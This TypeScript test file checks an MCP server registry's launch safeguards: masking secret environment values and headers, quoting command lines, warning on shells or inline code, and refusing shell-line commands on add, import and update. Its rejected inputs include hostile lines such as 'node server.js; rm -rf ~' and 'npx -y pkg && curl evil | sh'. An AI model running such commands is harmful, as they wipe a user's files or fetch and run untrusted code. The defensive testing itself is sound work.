// Consent before a configuration becomes a process: what a server entry runs, shown exactly with
// its secrets masked, and a `command` that only a shell could run refused — by the function and
// by every registry method that saves one.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { checkLaunchCommand, describeLaunch, shellQuote } from "../../../lib/mcp/directory/mod.ts";
import { createMemoryStorage, createServerRegistry } from "../../../lib/mod.ts";

describe("describeLaunch", () => {
  test("stdio: every argument as passed, the line quoted for reading, secret-looking env masked", () => {
    const shown = describeLaunch({
      name: "x",
      command: "uvx",
      args: ["--with", "hishel<1.0.0", "tool", "it's"],
      env: { OPENAI_API_KEY: "sk-1", LOG_LEVEL: "info", TOKEN_REF: "${MY_TOKEN}" },
    });
    assert.deepEqual(shown.args, ["--with", "hishel<1.0.0", "tool", "it's"]);
    assert.equal(shown.commandLine, "uvx --with 'hishel<1.0.0' tool 'it'\\''s'");
    assert.deepEqual(shown.env, [
      { name: "OPENAI_API_KEY", value: "••••••••", secret: true },
      { name: "LOG_LEVEL", value: "info", secret: false },
      { name: "TOKEN_REF", value: "${MY_TOKEN}", secret: false },
    ]);
  });

  test("http: every header value masked unless known plain; the API key as Authorization", () => {
    const shown = describeLaunch(
      {
        name: "x",
        url: "https://x.example/mcp",
        apiKey: "k",
        headers: { "X-Region": "eu", "X-Key": "v" },
      },
      [],
      ["X-Region"],
    );
    assert.deepEqual(shown.headers.map((h) => `${h.name}: ${h.value}`), [
      "Authorization: Bearer ••••••••",
      "X-Region: eu",
      "X-Key: ••••••••",
    ]);
  });

  test("a shell, or inline code anywhere on the line, is a warning", () => {
    assert.match(
      describeLaunch({ name: "x", command: "bash", args: ["-c", "x"] }).warnings[0],
      /runs a shell/,
    );
    assert.match(
      describeLaunch({
        name: "x",
        command: "uvx",
        args: ["--from", "m", "python", "-c", "exec(1)"],
      }).warnings[0],
      /runs code given inline \(python -c …\)/,
    );
    assert.deepEqual(
      describeLaunch({ name: "x", command: "npx", args: ["-y", "pkg"] }).warnings,
      [],
    );
  });

  test("shellQuote round-trips through a real shell", async () => {
    const { execFileSync } = await import("node:child_process");
    const words = ["a b", "it's", "$(x)", ";", "", "--flag=1"];
    const echoed = execFileSync("sh", ["-c", `printf '%s\\n' ${shellQuote(words)}`]).toString();
    assert.deepEqual(echoed.split("\n").slice(0, -1), words);
  });
});

describe("checkLaunchCommand", () => {
  test("refuses a shell line; a program with arguments in args, or a path with spaces, is fine", () => {
    for (
      const command of [
        "npx -y pkg",
        "node server.js; rm -rf ~",
        "a|b",
        "$(curl evil)",
        "-rf",
        "x && y",
      ]
    ) {
      assert.throws(() => checkLaunchCommand({ name: "x", command }), {
        name: "PolicyError",
        message: /is a shell line, not a program/,
      }, command);
    }
    checkLaunchCommand({ name: "x", command: "npx", args: ["-y", "pkg; rm -rf ~"] });
    checkLaunchCommand({ name: "x", command: "/opt/My Tools/server" });
    assert.throws(
      () => checkLaunchCommand({ name: "x", command: "node", args: ["a\nb"] }),
      /line break/,
    );
  });

  test("the registry refuses it on add, import and update, and saves nothing", async () => {
    const storage = createMemoryStorage();
    const registry = createServerRegistry({ storage });
    const bad = { name: "x", command: "npx -y pkg && curl evil | sh" };
    await assert.rejects(registry.add(bad, { discover: false }), /shell line/);
    await assert.rejects(registry.import([bad]), /shell line/);
    await registry.add({ name: "ok", command: "npx", args: ["-y", "pkg"] }, { discover: false });
    const before = await storage.get("config.toml");
    await assert.rejects(
      registry.update("ok", { command: "sh -c 'x'" }, { discover: false }),
      /shell line/,
    );
    assert.equal(await storage.get("config.toml"), before);
  });
});
